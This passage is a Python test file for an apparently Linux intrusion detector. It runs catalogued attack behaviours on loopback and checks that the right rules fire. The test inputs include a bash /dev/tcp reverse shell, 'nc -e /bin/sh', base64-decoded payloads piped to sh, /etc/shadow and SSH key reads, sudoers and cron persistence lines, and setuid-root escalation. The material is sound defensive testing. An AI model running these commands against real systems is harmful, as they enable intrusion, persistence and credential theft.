"""The detection catalogue on the real kernel: one monitor with the default
rules (rules/vigil_rules.yaml) for the whole file; every catalogue behaviour
the rules cover is triggered, in at least three variants (another program,
another path spelling, another system call, a copy under another name: the
evasion classes of catalogue_evasions.py); each test
then checks that the right rule fired for *our* process (matched by pid or by
a unique marker) with the right fields, and that ordinary activity raised
nothing.

Safety: everything stays on loopback (the metadata address is tried from a
new, empty network namespace); only our own processes are touched; system
files are never changed: writes below /etc, /usr/bin, PAM, cron and sudoers
are attempted as nobody (the kernel refuses them, the attempt is the event),
or go to a uniquely named file that is removed at once; /proc/sys files are
opened for writing without writing; kernel modules are never loaded (the
"module" is not one) and the BPF program is a 2-instruction socket filter
that is closed without being attached.
"""
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import time
import types
import uuid

import loopback
from vigil_harness import BUILD, Monitor, once
from vigil_harness import deliberate_rule
import catalogue_evasions

TOP = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
RULES = os.path.join(TOP, "rules", "vigil_rules.yaml")
ATTACK = os.path.join(BUILD, "tests", "bin", "vigil-attack")
PY = "/usr/bin/python3"
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
DAEMON = ["setpriv", "--reuid=1", "--regid=1", "--clear-groups"]
MARK = "vgt" + uuid.uuid4().hex[:10]  # in every path and command line we create

# The rules each catalogue id is expected to raise (names from the rule file).
RULES_BY_ID = {
    "VG-001": {"Sensitive file read by untrusted program"},
    "VG-002": {"Sensitive file read through path traversal"},
    "VG-003": {"Symlink created over sensitive file or directory"},
    "VG-004": {"Hardlink created over sensitive file"},
    "VG-005": {"Log file cleared or truncated"},
    "VG-006": {"Bulk data destruction tool run"},
    "VG-007": {"Write below etc"},
    "VG-008": {"Sudoers modified"},
    "VG-009": {"PAM configuration modified"},
    "VG-010": {"SSH authorized_keys modified"},
    "VG-011": {"Private SSH key read by non-ssh program"},
    "VG-012": {"Shell configuration file modified"},
    "VG-013": {"Cron job created or modified", "Crontab or at job installed"},
    "VG-014": {"Dynamic linker preload file modified"},
    "VG-015": {"Shell history deleted or truncated"},
    "VG-016": {"Kernel core_pattern or helper path modified"},
    "VG-017": {"Cgroup release_agent or notify_on_release written"},
    "VG-018": {"Process memory written through procfs"},
    "VG-019": {"Environment of another process read", "Memory of another process read"},
    "VG-020": {"Credential search"},
    "VG-021": {"Setuid or setgid bit set"},
    "VG-022": {"Binary directory modified"},
    "VG-030": {"Shell spawned by server process"},
    "VG-031": {"Execution from a world-writable directory"},
    "VG-032": {"Executable dropped in a writable directory"},
    "VG-033": {"Fileless execution", "Program run through the dynamic loader"},
    "VG-034": {"Ptrace attach or poke of another process"},
    "VG-035": {"Anti-debugging with PTRACE_TRACEME"},
    "VG-036": {"Memory written into another process"},
    "VG-037": {"Writable and executable memory mapping"},
    "VG-038": {"Privilege change to root by unexpected program",
               "Root privileges from an unexpected setuid program",
               "Capabilities gained by an unexpected program"},
    "VG-039": {"Namespace changed by unexpected program",
               "Host path or disk mounted by unexpected program"},
    "VG-040": {"Kernel module loaded"},
    "VG-041": {"Network scanner run", "Network sniffer run", "Offensive tool run"},
    "VG-042": {"Crypto miner run"},
    "VG-043": {"Encoded payload decoded and run"},
    "VG-044": {"Library preloaded through the environment"},
    "VG-045": {"System user ran an interactive shell"},
    "VG-046": {"Program deleted its own executable"},
    "VG-060": {"Standard input or output redirected to a network socket"},
    "VG-061": {"Raw packet socket opened"},
    "VG-062": {"SSH connection to non-standard port"},
    "VG-063": {"Cloud metadata service contacted"},
    "VG-064": {"Shell or interpreter listening on a socket", "Shell started on a network socket",
               "Shell relayed to the network"},
    "VG-065": {"Outbound connection from a program that never makes one"},
    "VG-073": {"Probe on the PAM library"},
    "VG-080": {"BPF program loaded by unexpected program"},
    "VG-081": {"Kernel or user probe attached by unexpected program"},
    "VG-082": {"Unprivileged BPF setting changed"},
    "VG-083": {"vigil signalled", "vigil ptraced", "vigil BPF link removed", "vigil BPF map changed",
               "vigil cgroup frozen", "vigil events dropped", "vigil output file changed"},
}

_run = {}
_expect = []     # (vg id, variant, pid or None, marker or None, {field: expected})
_ordinary = []   # (what, pid, marker)


def expect(vg, variant, pid=None, marker=None, fields=None, **kw):
    """Records that the rules of `vg` must fire for this process (pid) or
    for an event naming `marker`, with these output fields; keyword names
    use "__" for "." (fd__name), `fields` takes names as they are."""
    want = dict(fields or {})
    want.update({k.replace("__", "."): v for k, v in kw.items()})
    _expect.append((vg, variant, pid, marker, want))


def run(argv, cwd=None, env=None, stdin=None, check=False, timeout=60):
    """Runs a program to its end; returns its pid (the pid keeps across exec)."""
    argv = [str(a) for a in argv]
    p = subprocess.Popen(argv, cwd=cwd, env=env, stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT,
                         stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL)
    out, _ = p.communicate(stdin.encode() if stdin is not None else None, timeout=timeout)
    if check and p.returncode != 0:
        raise AssertionError(f"{argv} failed ({p.returncode}): {out.decode(errors='replace')}")
    return p.pid


def attack(*args, **kw):
    return run([ATTACK] + [str(a) for a in args], **kw)


def py(code, **kw):
    return run([PY, "-c", code], **kw)


class Listener(loopback.Listener):
    """A loopback TCP server (loopback.py) that answers every connection with
    `reply`: an HTTP response, or "exit" for a shell."""

    def __init__(self, reply=b"exit\n"):
        super().__init__(reply=reply)


def sleeper():
    return subprocess.Popen(["sleep", "60"], stdin=subprocess.DEVNULL)


def _files(t, home, nob):
    """VG-001 .. VG-022"""
    # VG-001: two readers and a refused attempt
    expect("VG-001", "cat", run(["cat", "/etc/shadow"]), fd__name="/etc/shadow")
    expect("VG-001", "python", py("open('/etc/shadow').read()"), fd__name="/etc/shadow")
    expect("VG-001", "nobody attempt", run(NOBODY + ["cat", "/etc/gshadow"]),
           fd__name="/etc/gshadow")
    # VG-002: absolute and relative traversals, another interpreter
    expect("VG-002", "absolute", run(["cat", "/etc/../etc/../etc/shadow"]),
           fd__name="/etc/shadow", fd__nameraw="/etc/../etc/../etc/shadow")
    expect("VG-002", "relative", run(["cat", "../../../../../../etc/shadow"], cwd=t),
           fd__name="/etc/shadow")
    expect("VG-002", "python", py("open('/tmp/../etc/shadow').read()"), fd__name="/etc/shadow")
    # VG-003
    expect("VG-003", "ln -s /etc", run(["ln", "-s", "/etc", f"{t}/lnk-etc-{MARK}"]),
           evt__arg__target="/etc")
    expect("VG-003", "python to shadow", py(f"import os; os.symlink('/etc/shadow', '{t}/lnk-sh-{MARK}')"),
           evt__arg__target="/etc/shadow")
    expect("VG-003", "relative spelling",
           py(f"import os; os.symlink('../../../../etc//', '{t}/lnk-rel-{MARK}')"),
           evt__arg__target="../../../../etc//")
    # VG-004: refused attempts as nobody, absolute and relative source
    expect("VG-004", "ln as nobody", run(NOBODY + ["ln", "/etc/shadow", f"{nob}/hl-{MARK}"]))
    expect("VG-004", "linkat relative", run(NOBODY + [ATTACK, "link-relative", nob, f"hl2-{MARK}"]))
    # VG-005: a log file of our own, truncated three ways, then removed
    log = f"/var/log/vigil-test-{MARK}.log"
    expect("VG-005", "shell redirection", run(["sh", "-c", f"echo x > {log}; : > {log}"]),
           fd__name=log)
    expect("VG-005", "truncate+unlink",
           py(f"import os; os.truncate('{log}', 0); os.unlink('{log}')"))
    # VG-006
    with open(f"{t}/shred-{MARK}", "w") as f:
        f.write("secret\n" * 100)
    expect("VG-006", "shred", run(["shred", "-u", f"{t}/shred-{MARK}"]), proc__name="shred")
    with open(f"{t}/img-{MARK}", "wb") as f:
        f.truncate(8 << 20)
    expect("VG-006", "mke2fs", run(["mke2fs", "-q", "-F", f"{t}/img-{MARK}"]), proc__name="mke2fs")
    # VG-007: a uniquely named file, created and removed at once
    etcf = f"/etc/vigil-test-{MARK}"
    expect("VG-007", "shell", run(["sh", "-c", f"echo x > {etcf}"]), fd__name=etcf)
    expect("VG-007", "rm", run(["rm", "-f", etcf]))
    with open(f"{t}/etc-src-{MARK}", "w") as f:
        f.write("x\n")
    expect("VG-007", "python rename",
           py(f"import os; os.rename('{t}/etc-src-{MARK}', '{etcf}-2'); os.unlink('{etcf}-2')"))
    # VG-008..VG-014: refused attempts as nobody
    expect("VG-008", "sudoers.d",
           run(NOBODY + ["sh", "-c", f"echo 'x ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/vigil-{MARK}"]),
           fd__name=f"/etc/sudoers.d/vigil-{MARK}")
    expect("VG-008", "sudoers python",
           run(NOBODY + [PY, "-c", "import os\ntry: os.open('/etc/sudoers', os.O_WRONLY|os.O_APPEND)\nexcept OSError: pass"]),
           fd__name="/etc/sudoers")
    expect("VG-009", "pam.d", run(NOBODY + ["sh", "-c", f": >> /etc/pam.d/vigil-{MARK}"]),
           fd__name=f"/etc/pam.d/vigil-{MARK}")
    expect("VG-009", "pam module",
           run(NOBODY + [PY, "-c", f"import os\ntry: open('/usr/lib/x86_64-linux-gnu/security/pam_vigil_{MARK}.so','wb')\nexcept OSError: pass"]),
           marker=f"pam_vigil_{MARK}")
    # VG-010: a home of our own
    ak = f"{home}/.ssh/authorized_keys"
    expect("VG-010", "append", run(["sh", "-c", f"echo 'ssh-ed25519 AAAA {MARK}' >> {ak}"]), fd__name=ak)
    with open(f"{home}/.ssh/ak-{MARK}", "w") as f:
        f.write("ssh-ed25519 AAAA x\n")
    expect("VG-010", "rename into place",
           py(f"import os; os.rename('{home}/.ssh/ak-{MARK}', '{home}/.ssh/authorized_keys2')"))
    # VG-011
    run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", MARK, "-f", f"{home}/.ssh/id_ed25519"],
        check=True)
    key = f"{home}/.ssh/id_ed25519"
    expect("VG-011", "cat", run(["cat", key]), fd__name=key)
    expect("VG-011", "python", py(f"open('{key}').read()"), fd__name=key)
    _ordinary.append(("ssh-keygen -y reads its key", run(["ssh-keygen", "-y", "-f", key]), None))
    # VG-012
    expect("VG-012", "bashrc", run(["sh", "-c", f"echo 'alias ls=x' >> {home}/.bashrc"]),
           fd__name=f"{home}/.bashrc")
    expect("VG-012", "python profile", py(f"open('{home}/.profile', 'a').write('x')"),
           fd__name=f"{home}/.profile")
    expect("VG-012", "profile.d as nobody",
           run(NOBODY + ["sh", "-c", f"echo x > /etc/profile.d/vigil-{MARK}.sh"]),
           fd__name=f"/etc/profile.d/vigil-{MARK}.sh")
    # VG-013
    expect("VG-013", "cron.d", run(NOBODY + ["sh", "-c", f"echo '* * * * * root id' > /etc/cron.d/vigil-{MARK}"]),
           fd__name=f"/etc/cron.d/vigil-{MARK}")
    expect("VG-013", "spool python",
           run(NOBODY + [PY, "-c", f"import os\ntry: open('/var/spool/cron/crontabs/vigil-{MARK}','w')\nexcept OSError: pass"]),
           marker=f"crontabs/vigil-{MARK}")
    os.symlink("/bin/true", f"{t}/tools/crontab")
    expect("VG-013", "crontab run", run([f"{t}/tools/crontab", f"{t}/tab-{MARK}"]), proc__name="crontab")
    # the one-liner that adds a job: the table comes from a pipe
    expect("VG-013", "crontab from a pipe",
           run([f"{t}/tools/crontab", "-"], stdin=f"* * * * * id # {MARK}\n"), proc__name="crontab")
    # VG-014
    expect("VG-014", "shell", run(NOBODY + ["sh", "-c", ": >> /etc/ld.so.preload"]),
           fd__name="/etc/ld.so.preload")
    expect("VG-014", "python",
           run(NOBODY + [PY, "-c", "import os\ntry: os.open('/etc/ld.so.preload', os.O_WRONLY|os.O_CREAT, 0o644)\nexcept OSError: pass"]),
           fd__name="/etc/ld.so.preload")
    # VG-015
    hist = f"{home}/.bash_history"
    with open(hist, "w") as f:
        f.write("ls\n")
    expect("VG-015", "rm", run(["rm", hist]), fs__path__name=hist)
    with open(f"{home}/.zsh_history", "w") as f:
        f.write("ls\n")
    expect("VG-015", "redirection", run(["sh", "-c", f": > {home}/.zsh_history"]),
           fd__name=f"{home}/.zsh_history")
    expect("VG-015", "ln -sf /dev/null", run(["ln", "-sf", "/dev/null", hist]))
    with open(f"{home}/.python_history", "w") as f:
        f.write("1\n")
    expect("VG-015", "python truncate", py(f"import os; os.truncate('{home}/.python_history', 0)"))
    # a shell saving its own history on exit is ordinary
    h2 = f"{t}/h2"
    os.makedirs(h2)
    env = dict(os.environ, HISTFILE=f"{h2}/.bash_history", HOME=h2)
    _ordinary.append(("interactive bash saving history",
                      run(["bash", "--norc", "-i"], env=env, stdin="echo hi\nexit\n"), None))
    # VG-016: opened for writing, nothing written
    cp = "/proc/sys/kernel/core_pattern"
    expect("VG-016", "python", py(f"import os; os.close(os.open('{cp}', os.O_WRONLY))"), fd__name=cp)
    expect("VG-016", "shell", run(["sh", "-c", f": >> {cp}"]), fd__name=cp)
    expect("VG-016", "other spelling", attack("open-write-only", "/proc/sys/kernel/../kernel/core_pattern"),
           fd__name=cp)
    # VG-017: files of that name in a directory of ours
    os.makedirs(f"{t}/cg-{MARK}")
    expect("VG-017", "release_agent", run(["sh", "-c", f"echo /x > {t}/cg-{MARK}/release_agent"]),
           fd__name=f"{t}/cg-{MARK}/release_agent")
    expect("VG-017", "notify_on_release", py(f"open('{t}/cg-{MARK}/notify_on_release', 'w').write('1')"),
           fd__name=f"{t}/cg-{MARK}/notify_on_release")
    # VG-018 / VG-019: our own sleeping child
    s = sleeper()
    try:
        expect("VG-018", "python /proc/PID/mem",
               py(f"import os; os.close(os.open('/proc/{s.pid}/mem', os.O_RDWR))"),
               fd__name=f"/proc/{s.pid}/mem")
        expect("VG-019", "cat /proc/PID/environ", run(["cat", f"/proc/{s.pid}/environ"]),
               fd__name=f"/proc/{s.pid}/environ")
        expect("VG-019", "python", py(f"open('/proc/{s.pid}/environ','rb').read()"),
               fd__name=f"/proc/{s.pid}/environ")
    finally:
        s.kill()
        s.wait()
    pid = attack("proc-task-files")
    expect("VG-018", "C /proc/PID/task/TID/mem", pid)
    expect("VG-019", "C /proc/PID/task/TID/environ", pid)
    # VG-020
    os.makedirs(f"{t}/src")
    expect("VG-020", "find id_rsa", run(["find", t, "-name", "id_rsa"]), proc__name="find")
    expect("VG-020", "grep -r password", run(["grep", "-r", "password", f"{t}/src"]), proc__name="grep")
    expect("VG-020", "grep private key", run(["grep", "-rl", "BEGIN OPENSSH PRIVATE", home]),
           proc__name="grep")
    expect("VG-020", "find aws credentials", run(["find", t, "-path", "*.aws/credentials"]))
    # VG-021
    for n in ("suid1", "suid2"):
        with open(f"{t}/{n}-{MARK}", "w") as f:
            f.write("x")
    expect("VG-021", "chmod u+s", run(["chmod", "u+s", f"{t}/suid1-{MARK}"]),
           fs__path__name=f"{t}/suid1-{MARK}", evt__arg__mode="04644")
    expect("VG-021", "python chmod 2755", py(f"import os; os.chmod('{t}/suid2-{MARK}', 0o2755)"))
    expect("VG-021", "created setuid",
           py(f"import os; os.close(os.open('{t}/suid3-{MARK}', os.O_CREAT|os.O_WRONLY, 0o4755))"))
    # VG-022: refused attempts as nobody, three spellings and three calls
    expect("VG-022", "touch /usr/bin", run(NOBODY + ["touch", f"/usr/bin/vigil-{MARK}"]),
           fd__name=f"/usr/bin/vigil-{MARK}")
    expect("VG-022", "symlink /usr/local/bin",
           run(NOBODY + ["ln", "-s", "/bin/true", f"/usr/local/bin/vigil-{MARK}"]))
    with open(f"{nob}/bin-{MARK}", "w") as f:
        f.write("x")
    expect("VG-022", "python rename into /sbin",
           run(NOBODY + [PY, "-c", f"import os\ntry: os.rename('{nob}/bin-{MARK}', '/sbin/vigil-{MARK}')\nexcept OSError: pass"]))


def _processes(t, home, nob):
    """VG-030 .. VG-046"""
    # VG-030: programs named like servers (python under another name)
    os.makedirs(f"{t}/srv")
    os.symlink(PY, f"{t}/srv/nginx")
    os.symlink(PY, f"{t}/srv/postgres")
    run([f"{t}/srv/nginx", "-c", f"import subprocess; subprocess.run(['sh', '-c', 'echo {MARK}-web'])"])
    expect("VG-030", "nginx -> sh", marker=f"echo {MARK}-web", proc__name="sh")
    run([f"{t}/srv/postgres", "-c", f"import os; os.system(\"bash -c 'echo {MARK}-db'\")"])
    expect("VG-030", "postgres -> sh -> bash", marker=f"echo {MARK}-db'", proc__name="bash")
    # VG-031
    shm = f"/dev/shm/vigil-{MARK}.sh"
    with open(shm, "w") as f:
        f.write("#!/bin/sh\necho hi\n")
    os.chmod(shm, 0o755)
    expect("VG-031", "/dev/shm script", run([shm]), evt__arg__filename=shm)
    # world-writable means o+w on the directory: `nob` (0777), not `t` (0755)
    shutil.copy("/bin/true", f"{nob}/true-{MARK}")
    expect("VG-031", "binary in an o+w dir", run([f"{nob}/true-{MARK}"]),
           proc__exepath=f"{nob}/true-{MARK}")
    vt = f"/var/tmp/vigil-{MARK}.sh"
    with open(vt, "w") as f:
        f.write("echo hi\n")
    expect("VG-031", "sh /var/tmp/x.sh", run(["sh", vt]))
    expect("VG-031", "relative ./x", run(["sh", "-c", f"cd {nob} && ./true-{MARK}"]), marker=f"./true-{MARK}")
    tmpbin = f"/tmp/vigil-{MARK}-true"
    shutil.copy("/bin/true", tmpbin)
    expect("VG-031", "binary in /tmp itself", run([tmpbin]), proc__exepath=tmpbin)
    os.unlink(shm)
    os.unlink(vt)
    os.unlink(tmpbin)
    # VG-032: written or made executable in an o+w directory, then run
    drop = f"{nob}/drop-{MARK}"
    py(f"import os, shutil; shutil.copyfile('/bin/true', '{drop}'); os.chmod('{drop}', 0o755)")
    expect("VG-032", "python write + chmod, run", run([drop]), proc__exepath=drop)
    run(["cp", "/bin/true", f"{nob}/drop2-{MARK}"])
    expect("VG-032", "cp of a binary, run", run([f"{nob}/drop2-{MARK}"]),
           proc__exepath=f"{nob}/drop2-{MARK}")
    run(["sh", "-c", f"cp /bin/true /dev/shm/vigil-{MARK}-cp && /dev/shm/vigil-{MARK}-cp; "
                     f"rm -f /dev/shm/vigil-{MARK}-cp"])
    for vg in ("VG-032", "VG-031"):
        expect(vg, "payload copied into /dev/shm and run", marker=f"/dev/shm/vigil-{MARK}-cp",
               proc__exepath=f"/dev/shm/vigil-{MARK}-cp")
    plain = f"/var/tmp/vigil-{MARK}-plain"
    with open(plain, "wb") as f:
        f.write(open("/bin/true", "rb").read())
    run(["sh", "-c", f"chmod +x {plain} && {plain}; rm -f {plain}"])
    for vg in ("VG-032", "VG-031"):
        expect(vg, "made executable in /var/tmp and run", marker=plain, proc__exepath=plain)
    # renamed after the chmod: the same file by its inode
    moved = f"{nob}/moved-{MARK}"
    run(["sh", "-c", f"cp /bin/true {nob}/pre-{MARK} && chmod 755 {nob}/pre-{MARK} && "
                     f"mv {nob}/pre-{MARK} {moved} && {moved}"])
    expect("VG-032", "made executable, renamed, run", marker=moved, proc__exepath=moved)
    # VG-033
    expect("VG-033", "C memfd + fexecve", attack("memfd-exec"))
    expect("VG-033", "python memfd + /proc/self/fd",
           py("import os\nfd = os.memfd_create('vigil', 0)\nos.write(fd, open('/bin/true','rb').read())\n"
              "os.execv(f'/proc/self/fd/{fd}', ['vigil-memfd-py'])"))
    # VG-034 .. VG-037
    expect("VG-034", "C attach + poke", attack("ptrace-poke"))
    s = sleeper()
    try:
        run(["timeout", "1", "strace", "-o", "/dev/null", "-p", str(s.pid)])
        expect("VG-034", "strace -p", marker=f"strace -o /dev/null -p {s.pid}")
        expect("VG-036", "python process_vm_writev",
               py("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                  f"libc.process_vm_writev({s.pid}, None, 0, None, 0, 0)"))
    finally:
        s.kill()
        s.wait()
    expect("VG-035", "C", attack("traceme"), evt__arg__request="PTRACE_TRACEME")
    expect("VG-035", "python", py("import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)"),
           evt__arg__request="PTRACE_TRACEME")
    expect("VG-036", "C", attack("vm-writev"))
    expect("VG-037", "C mmap + mprotect", attack("wx"))
    expect("VG-037", "python mmap",
           py("import mmap; m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ|mmap.PROT_WRITE|mmap.PROT_EXEC); m.close()"))
    # VG-038: an id goes from non-zero to 0 (root re-setting its own ids is
    # ordinary: see _ordinary_activity); setuid-root copies run by nobody
    deliberate_rule(os.getpid(), "Setuid or setgid bit set")  # the copies below
    suid_attack = f"{t}/suid-attack-{MARK}"
    shutil.copy(ATTACK, suid_attack)
    os.chmod(suid_attack, 0o4755)
    expect("VG-038", "C setuid(0) from a setuid-root copy run by nobody",
           run(NOBODY + [suid_attack, "setuid0"]),
           fields={"vigil.ids.before": "ruid=65534 euid=0 suid=0 fsuid=0",
                   "vigil.ids.after": "ruid=0 euid=0 suid=0 fsuid=0"})
    suid_py = f"{t}/suid-python-{MARK}"
    shutil.copy(os.path.realpath(PY), suid_py)
    os.chmod(suid_py, 0o4755)
    expect("VG-038", "setuid-root python copy run by nobody calls setuid(0)",
           run(NOBODY + [suid_py, "-c", "import os; os.setuid(0)"]),
           proc__exepath=suid_py)
    # a setuid-root copy named like a user-switching tool is still not that tool
    os.makedirs(f"{t}/as-sudo-{MARK}", exist_ok=True)
    os.chmod(f"{t}/as-sudo-{MARK}", 0o755)
    fake_sudo = f"{t}/as-sudo-{MARK}/sudo"
    shutil.copy(os.path.realpath(PY), fake_sudo)
    os.chmod(fake_sudo, 0o4755)
    expect("VG-038", "setuid-root python copy named sudo run by nobody calls setuid(0)",
           run(NOBODY + [fake_sudo, "-c", "import os; os.setuid(0)"]),
           proc__name="sudo", proc__exepath=fake_sudo)
    expect("VG-038", "nobody setuid(0) refused",
           run(NOBODY + [PY, "-c", "import os\ntry: os.setuid(0)\nexcept OSError: pass"]))
    # VG-039
    expect("VG-039", "C setns + unshare", attack("namespaces"))
    expect("VG-039", "unshare -U", run(["unshare", "-U", "true"]), proc__name="unshare")
    # VG-040: not a module: refused
    with open(f"{t}/notamodule-{MARK}.ko", "wb") as f:
        f.write(b"\x7fELF not a module")
    expect("VG-040", "C finit_module + init_module", attack("modules", f"{t}/notamodule-{MARK}.ko"))
    expect("VG-040", "python finit_module",
           py("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
              f"fd = os.open('{t}/notamodule-{MARK}.ko', os.O_RDONLY)\nlibc.syscall(313, fd, b'', 0)"))
    # VG-041 / VG-042: tools by name (harmless stand-ins), tools by arguments
    for name in ("nmap", "tcpdump", "nc", "xmrig"):
        os.symlink("/bin/true", f"{t}/tools/{name}")
    expect("VG-041", "nmap", run([f"{t}/tools/nmap", "-sS", "127.0.0.1"]), proc__name="nmap")
    expect("VG-041", "tcpdump", run([f"{t}/tools/tcpdump", "-i", "lo"]), proc__name="tcpdump")
    expect("VG-041", "nc -e", run([f"{t}/tools/nc", "-e", "/bin/sh", "127.0.0.1", "9"]), proc__name="nc")
    expect("VG-042", "xmrig", run([f"{t}/tools/xmrig"]), proc__name="xmrig")
    expect("VG-042", "stratum argument",
           run(["/bin/true", "-o", "stratum+tcp://127.0.0.1:3333", "-u", MARK, "--donate-level=1"]))
    # VG-043
    expect("VG-043", "base64 -d | sh", run(["sh", "-c", f"echo ZWNobyB2aWdpbAo= | base64 -d | sh # {MARK}"]))
    expect("VG-043", "eval $(... | base64 --decode)",
           run(["bash", "-c", f"eval \"$(echo ZWNobyB2aWdpbAo= | base64 --decode)\" # {MARK}"]))
    expect("VG-043", "python exec(b64decode)",
           py(f"import base64; exec(base64.b64decode('cHJpbnQoMSk=')) # {MARK}"))
    # the pipeline built by a running bash (each stage its own exec, with
    # innocent arguments): the shell's standard input is the decoder's pipe
    payload = "ZWNobyB2aWdpbAo="  # "echo vigil"
    for name, line in [
            ("base64 -d", f"echo {payload} | base64 -d | sh"),
            ("basenc --base64 -d", f"echo {payload} | basenc --base64 -d | bash"),
            ("xxd -r -p", "printf 'echo vigil\\n' | xxd -p | xxd -r -p | sh"),
            ("openssl enc -d", f"echo {payload} | openssl enc -d -base64 | sh"),
            ("python b64decode", "python3 -c 'import base64,sys; "
             f"sys.stdout.buffer.write(base64.b64decode(sys.argv[1]))' {payload} | sh"),
            ("base64 -di (bundled options)", f"echo {payload} | base64 -di | sh -s"),
    ]:
        script = f"{t}/pipeline-{name.split()[0]}-{len(_expect)}-{MARK}.sh"
        with open(script, "w") as f:
            f.write(line + "\n")
        run(["bash", script])
        expect("VG-043", f"{name} | sh built by a running bash", marker=script)
    # a decoder whose output is data, not a program: nothing
    quiet = f"{t}/pipeline-quiet-{MARK}.sh"
    with open(quiet, "w") as f:
        f.write(f"echo {payload} | base64 -d | wc -c\necho {payload} | base64 -d | "
                "python3 -c 'import sys; sys.stdin.read()'\n")
    _ordinary.append(("decoded data piped to wc and a python -c", run(["bash", quiet]), None))
    # VG-044
    lib = f"{t}/libvigil-{MARK}.so"
    expect("VG-044", "LD_PRELOAD", run(["/bin/true"], env=dict(os.environ, LD_PRELOAD=lib)),
           fields={"proc.env[LD_PRELOAD]": lib})
    expect("VG-044", "LD_AUDIT", run(["/bin/true"], env=dict(os.environ, LD_AUDIT=lib)))
    expect("VG-044", "ld.so --preload", run(["/lib64/ld-linux-x86-64.so.2", "--preload", lib, "/bin/true"]))
    # VG-045: the daemon user (uid 1)
    expect("VG-045", "bash -i as daemon", run(DAEMON + ["bash", "--norc", "-i", "-c", f"echo {MARK}"]),
           user__uid=1)
    run(["script", "-qec", " ".join(DAEMON) + f" sh -c 'echo {MARK}-tty'", "/dev/null"])
    expect("VG-045", "sh on a tty as daemon", marker=f"echo {MARK}-tty", proc__name="sh")
    # VG-046
    shutil.copy(ATTACK, f"{t}/selfdel-{MARK}")
    expect("VG-046", "unlink(/proc/self/exe)", run([f"{t}/selfdel-{MARK}", "unlink-self"]),
           fs__path__name=f"{t}/selfdel-{MARK}")
    shutil.copy(ATTACK, f"{t}/rmself-{MARK}")
    run([f"{t}/rmself-{MARK}", "rm-self"])
    expect("VG-046", "rm of the parent", marker=f"rm -f {t}/rmself-{MARK}", proc__name="rm")


def _network(t):
    """VG-060 .. VG-065"""
    shell = Listener(b"exit\n")
    try:
        p = shell.port
        run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{p} 0>&1 # {MARK}"], timeout=30)
        expect("VG-060", "bash /dev/tcp", marker=f"/dev/tcp/127.0.0.1/{p} 0>&1 # {MARK}")
        expect("VG-065", "bash /dev/tcp", marker=f"/dev/tcp/127.0.0.1/{p} 0>&1 # {MARK}",
               fd__rport=p)
        expect("VG-060", "C dup2", attack("revshell", p), fd__type="ipv4", evt__arg__newfd=2)
        expect("VG-060", "python dup2",
               py(f"import socket, os\ns = socket.create_connection(('127.0.0.1', {p}))\n"
                  "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)"), fd__type="ipv4", evt__arg__newfd=0)
        catalogue_evasions.identity_network(types.SimpleNamespace(**globals()), t, p)
        catalogue_evasions.dup_variants(types.SimpleNamespace(**globals()), p)
        catalogue_evasions.copies(types.SimpleNamespace(**globals()), t, None, None, p)
        catalogue_evasions.relays(types.SimpleNamespace(**globals()), t, p)
        catalogue_evasions.compat32(types.SimpleNamespace(**globals()), t, p)
        os.symlink(ATTACK, f"{t}/tools/cat")
        expect("VG-065", "connect by 'cat'", run([f"{t}/tools/cat", "connect", p]), proc__name="cat")
    finally:
        shell.close()
    # VG-061
    expect("VG-061", "C AF_PACKET", attack("packet-socket"), evt__arg__domain="AF_PACKET")
    expect("VG-061", "python AF_PACKET",
           py("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM).close()"))
    # VG-062: nothing listens; the connect is refused
    ssh = ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no",
           "-o", "UserKnownHostsFile=/dev/null", "-F", "/dev/null"]
    expect("VG-062", "ssh -p", run(ssh + ["-p", "4431", "127.0.0.1", "true"]), fd__rport=4431)
    expect("VG-062", "ssh -o Port=", run(ssh + ["-o", "Port=8022", "127.0.0.1", "true"]), fd__rport=8022)
    # VG-063: from an empty network namespace, nothing leaves the host
    expect("VG-063", "C IPv4", attack("netns-connect", "169.254.169.254", 80), fd__rip="169.254.169.254")
    expect("VG-063", "C IPv6", attack("netns-connect", "fd00:ec2::254", 80))
    expect("VG-063", "python in unshare -n",
           run(["unshare", "-n", PY, "-c",
                "import socket\ntry: socket.create_connection(('169.254.169.254', 80), timeout=1)\nexcept OSError: pass"]),
           fd__rip="169.254.169.254")
    # VG-064
    # (bound to every address, closed at once: a listener on loopback only is
    # reachable from this host alone and is not reported)
    expect("VG-064", "python listen",
           py("import socket; s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(1); s.close()"))
    expect("VG-064", "perl listen",
           run(["perl", "-MIO::Socket::INET", "-e",
                "IO::Socket::INET->new(Listen => 1, LocalAddr => '0.0.0.0:0') or die"]))


def _self_protection(mon):
    """VG-083: a harmless signal (vigil ignores SIGWINCH) to our own monitor"""
    expect("VG-083", "SIGWINCH to the monitor",
           py(f"import os, signal; os.kill({mon.proc.pid}, signal.SIGWINCH)"), evt__arg__sig="SIGWINCH")
    catalogue_evasions.self_protection(types.SimpleNamespace(**globals()), mon)


def _bpf(t):
    """VG-080 .. VG-082"""
    expect("VG-080", "C BPF_PROG_LOAD", attack("bpf-load"))
    expect("VG-080", "python BPF_PROG_LOAD (refused)",
           py("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nattr = ctypes.create_string_buffer(128)\n"
              "libc.syscall(321, 5, attr, 128)"))
    shutil.copy("/bin/true", f"{t}/probe-target-{MARK}")
    expect("VG-081", "C perf_event_open uprobe", attack("uprobe", f"{t}/probe-target-{MARK}"))
    expect("VG-081", "tracefs uprobe_events",
           py("import os\ntry: os.close(os.open('/sys/kernel/tracing/uprobe_events', os.O_WRONLY|os.O_APPEND))\n"
              "except OSError: pass"))
    libpam = next((p for p in ("/lib/x86_64-linux-gnu/libpam.so.0", "/lib/aarch64-linux-gnu/libpam.so.0",
